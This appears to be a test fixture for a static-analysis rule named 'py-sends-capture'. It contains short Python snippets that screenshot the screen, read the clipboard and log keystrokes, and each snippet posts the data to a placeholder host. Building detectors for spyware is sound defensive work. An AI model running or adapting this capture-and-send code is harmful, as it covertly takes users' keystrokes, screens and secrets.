import io

import pyperclip
import requests
from PIL import ImageGrab
from pynput import keyboard


def look():
    shot = ImageGrab.grab()
    buffer = io.BytesIO()
    shot.save(buffer, "PNG")
    # ruleid: py-sends-capture
    requests.post("https://example.com", files={"f": buffer.getvalue()})


def clip():
    # ruleid: py-sends-capture
    requests.post("https://example.com", data=pyperclip.paste())


def pressed(key):
    # ruleid: py-sends-capture
    requests.post("https://example.com", data=str(key))


keyboard.Listener(on_press=pressed).start()
